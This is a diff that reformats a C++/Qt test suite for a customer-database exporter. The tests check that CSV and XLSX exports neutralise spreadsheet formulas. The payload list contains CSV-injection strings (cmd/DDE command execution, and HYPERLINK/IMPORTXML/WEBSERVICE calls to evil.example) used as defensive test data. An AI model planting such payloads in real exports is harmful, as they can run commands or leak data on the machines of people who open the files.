@@ -32,13 +32,48 @@ QString s(const char *text)
 QStringList payloads()
 {
     QStringList texts;
-    for (const char *text :
-         {"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
-          "@cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"click\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
-          "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", " =1+1", "  +1", "   @x", "=", "+",
-          "-", "@", "-5", "+387 61 123 456", "=\"quoted\"", "=1;2", "=1,2", "'=1+1", "''=1+1", "'x", "' =1", "O'Brien",
-          "a=b", "1+1", "x@y.example", "\"=1\"", "(=1)", "=A1\"\"B2", "=1|2", "-_-", "@Đorđe", "+Čavić", "=_x0041_",
-          "_x0041_", "_x005F_"})
+    for (const char *text : {"=1+1",
+                             "+1+1",
+                             "-1+1",
+                             "@SUM(1+1)",
+                             "=cmd|' /C calc'!A0",
+                             "+cmd|' /C calc'!A0",
+                             "-cmd|' /C calc'!A0",
+                             "@cmd|' /C calc'!A0",
+                             "=HYPERLINK(\"http://evil.example\",\"click\")",
+                             "=IMPORTXML(\"http://evil.example\",\"//a\")",
+                             "=WEBSERVICE(\"http://evil.example\")",
+                             "=DDE(\"cmd\";\"/C calc\";\"x\")",
+                             " =1+1",
+                             "  +1",
+                             "   @x",
+                             "=",
+                             "+",
+                             "-",
+                             "@",
+                             "-5",
+                             "+387 61 123 456",
+                             "=\"quoted\"",
+                             "=1;2",
+                             "=1,2",
+                             "'=1+1",
+                             "''=1+1",
+                             "'x",
+                             "' =1",
+                             "O'Brien",
+                             "a=b",
+                             "1+1",
+                             "x@y.example",
+                             "\"=1\"",
+                             "(=1)",
+                             "=A1\"\"B2",
+                             "=1|2",
+                             "-_-",
+                             "@Đorđe",
+                             "+Čavić",
+                             "=_x0041_",
+                             "_x0041_",
+                             "_x005F_"})
         texts << s(text);
     texts << s("\uFF1D1+1") << s("\uFF0B1") << s("\u00A0=1");
     return texts;
@@ -97,18 +132,23 @@ void TestExporter::fill()
     m_workspace->execute(s(
         "INSERT INTO customer (id, number, name, kind, fictitious, place, createdAt, searchText) VALUES"
         " (1, '0001', 'Čaušević, Đenana \"Đ\"', 'household', 0, 'Tuzla', 1795338000000, 'x'),"
-        " (2, '0002', 'TVORNICA', 'company', 1, NULL, 1751364000123, 'y'), (7, '0007', 'Bez ičega', 'household', 0, NULL, NULL, 'z');"
+        " (2, '0002', 'TVORNICA', 'company', 1, NULL, 1751364000123, 'y'), (7, '0007', 'Bez ičega', 'household', 0, "
+        "NULL, NULL, 'z');"
         "INSERT INTO customerAccount (id, customerId, number, status, annualConsumptionKwh) VALUES"
-        " (10, 1, '3011-D-270704', 'Aktivan, prijavljen', 3500), (11, 1, '3011-D-2', 'Odjavljen', NULL), (12, 2, '302-V-1', 'Aktivan', 0);"
-        "INSERT INTO supplyPoint (id, customerAccountId, number, commodity, active) VALUES (20, 10, '123456', 'electricity', 1);"
+        " (10, 1, '3011-D-270704', 'Aktivan, prijavljen', 3500), (11, 1, '3011-D-2', 'Odjavljen', NULL), (12, 2, "
+        "'302-V-1', 'Aktivan', 0);"
+        "INSERT INTO supplyPoint (id, customerAccountId, number, commodity, active) VALUES (20, 10, '123456', "
+        "'electricity', 1);"
         "INSERT INTO contact (id, customerId, firstName, lastName, email, mobile, birthDate, searchText) VALUES"
-        " (30, 1, 'Đenana', 'Čaušević', 'd@b.example', '+38761123456', -3653, 'x'), (31, 1, 'Drugi', 'Č', NULL, NULL, 7000, 'x');"
+        " (30, 1, 'Đenana', 'Čaušević', 'd@b.example', '+38761123456', -3653, 'x'), (31, 1, 'Drugi', 'Č', NULL, NULL, "
+        "7000, 'x');"
         "INSERT INTO eService (id, customerAccountId, supplyPointId, contactId, name, status, createdAt) VALUES"
         " (40, 10, 20, 30, 'e-racun', 'Aktivna', 1751364000000), (41, 10, NULL, NULL, 'e-planska', 'Neaktivna', NULL);"
         "INSERT INTO receivable (id, customerAccountId, amount, dueDate, roh) VALUES (50, 12, -1250, 20000, 'A'),"
         " (51, 12, 123456789, NULL, NULL), (52, 10, 7, 0, NULL);"
         "INSERT INTO sentRecord (id, campaignId, contactId, customerAccountId, channel, address, status, at) VALUES"
-        " (60, 5, 30, 10, 'email', 'd@b.example', 'Poslano!', 1761436800000), (61, 5, 30, 10, 'email', 'd@b.example', 'Poslano!', 1761440400000);"
+        " (60, 5, 30, 10, 'email', 'd@b.example', 'Poslano!', 1761436800000), (61, 5, 30, 10, 'email', 'd@b.example', "
+        "'Poslano!', 1761440400000);"
         "INSERT INTO street VALUES ('T1', 'Titova'), ('A1', '=Ulica');"));
 }
 
@@ -142,7 +182,8 @@ QString TestExporter::dump(const QString &table)
     QStringList columns;
     while (names->next())
         columns << QString(s("coalesce(\"") + names->text(0) + s("\", '~')"));
-    auto query = (*connection)->prepare(s("SELECT %1 FROM %2 ORDER BY rowid").arg(columns.join(s(" || '|' || ")), table));
+    auto query
+        = (*connection)->prepare(s("SELECT %1 FROM %2 ORDER BY rowid").arg(columns.join(s(" || '|' || ")), table));
     static_cast<void>(query->run());
     while (query->next())
         rows << query->text(0);
@@ -179,30 +220,40 @@ void TestExporter::writesValues_data()
     QTest::addColumn<QString>("table");
     QTest::addColumn<bool>("raw");
     QTest::addColumn<QByteArray>("expected");
-    QTest::newRow("customer, raw") << s("customer") << true << QByteArray(
-        "id,number,name,kind,class,branch,fictitious,language,street,houseNumber,postcode,place,municipality,createdAt,"
-        "changedAt\r\n"
-        "1,0001,\"Čaušević, Đenana \"\"Đ\"\"\",household,,,0,,,,,Tuzla,,2026-11-22T10:00:00+01:00,\r\n"
-        "2,0002,TVORNICA,company,,,1,,,,,,,2025-07-01T12:00:00.123+02:00,\r\n"
-        "7,0007,Bez ičega,household,,,0,,,,,,,,\r\n");
-    QTest::newRow("receivable, raw") << s("receivable") << true << QByteArray(
-        "id,customerAccountId,amount,dueDate,roh,vpt\r\n50,12,-12.50,2024-10-04,A,\r\n51,12,1234567.89,,,\r\n"
-        "52,10,0.07,1970-01-01,,\r\n");
+    QTest::newRow("customer, raw")
+        << s("customer") << true
+        << QByteArray("id,number,name,kind,class,branch,fictitious,language,street,houseNumber,postcode,place,"
+                      "municipality,createdAt,"
+                      "changedAt\r\n"
+                      "1,0001,\"Čaušević, Đenana \"\"Đ\"\"\",household,,,0,,,,,Tuzla,,2026-11-22T10:00:00+01:00,\r\n"
+                      "2,0002,TVORNICA,company,,,1,,,,,,,2025-07-01T12:00:00.123+02:00,\r\n"
+                      "7,0007,Bez ičega,household,,,0,,,,,,,,\r\n");
+    QTest::newRow("receivable, raw")
+        << s("receivable") << true
+        << QByteArray(
+               "id,customerAccountId,amount,dueDate,roh,vpt\r\n50,12,-12.50,2024-10-04,A,\r\n51,12,1234567.89,,,\r\n"
+               "52,10,0.07,1970-01-01,,\r\n");
     // The hour that the clocks repeat: the offset tells the two apart.
-    QTest::newRow("sentRecord, raw") << s("sentRecord") << true << QByteArray(
-        "id,campaignId,contactId,customerAccountId,channel,address,status,reply,at\r\n"
-        "60,5,30,10,email,d@b.example,Poslano!,,2025-10-26T02:00:00+02:00\r\n"
-        "61,5,30,10,email,d@b.example,Poslano!,,2025-10-26T02:00:00+01:00\r\n");
-    QTest::newRow("contact, guarded") << s("contact") << false << QByteArray(
-        "\xEF\xBB\xBFid,customerId,firstName,lastName,email,mobile,phone,gender,birthDate,postcode,place,source,owner,"
-        "signatory,createdAt,createdBy,changedAt,changedBy\r\n"
-        "30,1,Đenana,Čaušević,d@b.example,\"'+38761123456\",,,1960-01-01,,,,,0,,,,\r\n"
-        "31,1,Drugi,Č,,,,,1989-03-02,,,,,0,,,,\r\n");
-    QTest::newRow("receivable, numbers stay numbers") << s("receivable") << false << QByteArray(
-        "\xEF\xBB\xBFid,customerAccountId,amount,dueDate,roh,vpt\r\n50,12,-12.50,2024-10-04,A,\r\n51,12,1234567.89,,,\r\n"
-        "52,10,0.07,1970-01-01,,\r\n");
-    QTest::newRow("street, guarded, by rowid") << s("street") << false << QByteArray(
-        "\xEF\xBB\xBF" "code,name\r\nT1,Titova\r\nA1,\"'=Ulica\"\r\n");
+    QTest::newRow("sentRecord, raw")
+        << s("sentRecord") << true
+        << QByteArray("id,campaignId,contactId,customerAccountId,channel,address,status,reply,at\r\n"
+                      "60,5,30,10,email,d@b.example,Poslano!,,2025-10-26T02:00:00+02:00\r\n"
+                      "61,5,30,10,email,d@b.example,Poslano!,,2025-10-26T02:00:00+01:00\r\n");
+    QTest::newRow("contact, guarded")
+        << s("contact") << false
+        << QByteArray("\xEF\xBB\xBFid,customerId,firstName,lastName,email,mobile,phone,gender,birthDate,postcode,place,"
+                      "source,owner,"
+                      "signatory,createdAt,createdBy,changedAt,changedBy\r\n"
+                      "30,1,Đenana,Čaušević,d@b.example,\"'+38761123456\",,,1960-01-01,,,,,0,,,,\r\n"
+                      "31,1,Drugi,Č,,,,,1989-03-02,,,,,0,,,,\r\n");
+    QTest::newRow("receivable, numbers stay numbers")
+        << s("receivable") << false
+        << QByteArray("\xEF\xBB\xBFid,customerAccountId,amount,dueDate,roh,vpt\r\n50,12,-12.50,2024-10-04,A,\r\n51,12,"
+                      "1234567.89,,,\r\n"
+                      "52,10,0.07,1970-01-01,,\r\n");
+    QTest::newRow("street, guarded, by rowid") << s("street") << false
+                                               << QByteArray("\xEF\xBB\xBF"
+                                                             "code,name\r\nT1,Titova\r\nA1,\"'=Ulica\"\r\n");
     QTest::newRow("empty table") << s("place") << true << QByteArray("code,name\r\n");
 }
 
@@ -235,7 +286,9 @@ void TestExporter::guardsFormulas()
     QVERIFY(texts.size() >= 40);
     auto written = (*m_workspace)->write([&](Connection &connection) -> Status {
         for (qsizetype i = 0; i < texts.size(); ++i) {
-            if (auto done = connection.execute(s("INSERT INTO street VALUES (?, ?)"), {QString::number(i), texts.at(i)}); !done)
+            if (auto done
+                = connection.execute(s("INSERT INTO street VALUES (?, ?)"), {QString::number(i), texts.at(i)});
+                !done)
                 return done;
         }
         return {};
@@ -251,7 +304,8 @@ void TestExporter::guardsFormulas()
         const auto rows = (*reader)->sample(1000);
         QVERIFY(rows);
         for (const QStringList &row : *rows)
-            QVERIFY2(!s("=+-@").contains(row.at(1).trimmed().left(1)) || row.at(1).trimmed().isEmpty(), qPrintable(row.at(1)));
+            QVERIFY2(!s("=+-@").contains(row.at(1).trimmed().left(1)) || row.at(1).trimmed().isEmpty(),
+                     qPrintable(row.at(1)));
     }
     TemporaryWorkspace other;
     ImportOptions import;
@@ -272,13 +326,15 @@ void TestExporter::guardsFormulas()
 /// Control characters cannot come in by an import, but a workspace of another program may have them.
 void TestExporter::keepsControlCharactersApart()
 {
-    m_workspace->execute(s("INSERT INTO street VALUES ('1', char(9) || '=1'), ('2', char(13) || '=1'), ('3', char(0) || '=1'),"
-                           " ('4', 'a' || char(10) || 'b'), ('5', 'x' || char(0) || 'y'), ('6', char(1) || 'z')"));
+    m_workspace->execute(
+        s("INSERT INTO street VALUES ('1', char(9) || '=1'), ('2', char(13) || '=1'), ('3', char(0) || '=1'),"
+          " ('4', 'a' || char(10) || 'b'), ('5', 'x' || char(0) || 'y'), ('6', char(1) || 'z')"));
     const auto rows = exported(s("street"), "x.csv");
     QStringList names;
     for (const QStringList &row : rows)
         names << row.at(1);
-    QCOMPARE(names, (QStringList{s("name"), s("'\t=1"), s("'\r=1"), s("'\uFFFD=1"), s("a\nb"), s("x\uFFFDy"), s("'\u0001z")}));
+    QCOMPARE(names,
+             (QStringList{s("name"), s("'\t=1"), s("'\r=1"), s("'\uFFFD=1"), s("a\nb"), s("x\uFFFDy"), s("'\u0001z")}));
     const auto sheet = exported(s("street"), "x.xlsx");
     QCOMPARE(sheet.at(1).at(1), s("\t=1"));
     QCOMPARE(sheet.at(3).at(1), s("\uFFFD=1"));
@@ -307,7 +363,8 @@ void TestExporter::comesBackAsItWas()
         m_workspace->execute(s("UPDATE sentRecord SET at = 1764547200000 WHERE id = 60"));
     TemporaryWorkspace other;
     other.execute(s("INSERT INTO setting VALUES ('timeZone', 'Europe/Sarajevo')"));
-    for (const char *name : {"customer", "customerAccount", "supplyPoint", "contact", "eService", "receivable", "sentRecord", "street"}) {
+    for (const char *name :
+         {"customer", "customerAccount", "supplyPoint", "contact", "eService", "receivable", "sentRecord", "street"}) {
         const QString table = s(name);
         const QString before = dump(table);
         ExportOptions options;
@@ -369,13 +426,15 @@ void TestExporter::exportsMembers()
     ExportOptions options;
     options.file = path("members.csv");
     options.raw = true;
-    const auto report = Exporter(m_workspace->workspace())
-                            .exportSegment(*segment, **evaluator, evaluationOptions(m_workspace->workspace(), m_clock), options);
+    const auto report
+        = Exporter(m_workspace->workspace())
+              .exportSegment(*segment, **evaluator, evaluationOptions(m_workspace->workspace(), m_clock), options);
     QVERIFY2(report, report ? "" : qPrintable(report.error().message() + report.error().detail));
     QCOMPARE(report->rows, 2);
     const auto rows = rowsOf(options.file);
-    QCOMPARE(rows.at(0).join(u'|'), s("id|customerId|number|status|category|supplyStatus|tariffPeriodId|annualConsumptionKwh|"
-                                      "billDelivery|createdAt|customer.number|customer.name"));
+    QCOMPARE(rows.at(0).join(u'|'),
+             s("id|customerId|number|status|category|supplyStatus|tariffPeriodId|annualConsumptionKwh|"
+               "billDelivery|createdAt|customer.number|customer.name"));
     QCOMPARE(rows.at(1).join(u'|'), s("10|1|3011-D-270704|Aktivan, prijavljen||||3500|||0001|Čaušević, Đenana \"Đ\""));
     QCOMPARE(rows.at(2).join(u'|'), s("12|2|302-V-1|Aktivan||||0|||0002|TVORNICA"));
     // Ids that are gone are passed over; the order is the caller's.
@@ -399,10 +458,12 @@ void TestExporter::readsListFormats_data()
     row("no format", "{}", "format");
     row("no columns", R"({"format": "odziv-list/1"})", "columns");
     row("empty columns", R"({"format": "odziv-list/1", "columns": []})", "columns");
-    row("unknown column", R"({"format": "odziv-list/1", "columns": ["customer.name", "customer.colour"]})", "columns[1]");
+    row("unknown column", R"({"format": "odziv-list/1", "columns": ["customer.name", "customer.colour"]})",
+        "columns[1]");
     row("no table", R"({"format": "odziv-list/1", "columns": ["name"]})", "columns[0]");
     row("number", R"({"format": "odziv-list/1", "columns": [7]})", "columns[0]");
-    row("title a number", R"({"format": "odziv-list/1", "columns": [{"column": "customer.name", "title": 7}]})", "columns[0]");
+    row("title a number", R"({"format": "odziv-list/1", "columns": [{"column": "customer.name", "title": 7}]})",
+        "columns[0]");
 }
 
 void TestExporter::readsListFormats()
@@ -426,7 +487,8 @@ void TestExporter::refuses_data()
     QTest::newRow("the workspace") << s("customer") << s("test.odziv") << QString() << ErrorCode::InvalidInput;
     QTest::newRow("no such folder, CSV") << s("customer") << s("no/x.csv") << QString() << ErrorCode::Io;
     QTest::newRow("no such folder, XLSX") << s("customer") << s("no/x.xlsx") << QString() << ErrorCode::Io;
-    QTest::newRow("column outside the tree") << s("customer") << s("x.csv") << s("street.name") << ErrorCode::InvalidInput;
+    QTest::newRow("column outside the tree")
+        << s("customer") << s("x.csv") << s("street.name") << ErrorCode::InvalidInput;
 }
 
 void TestExporter::refuses()
@@ -468,7 +530,8 @@ void TestExporter::leavesTheOldFileWhenItFails()
         QVERIFY(file.size() > 100);
     }
     // Nothing temporary stays behind.
-    const QStringList left = QFileInfo(path("old.csv")).dir().entryList({s(".odziv-*"), s("old.*")}, QDir::Files | QDir::Hidden);
+    const QStringList left
+        = QFileInfo(path("old.csv")).dir().entryList({s(".odziv-*"), s("old.*")}, QDir::Files | QDir::Hidden);
     QCOMPARE(left, (QStringList{s("old.csv"), s("old.xlsx")}));
 }
 
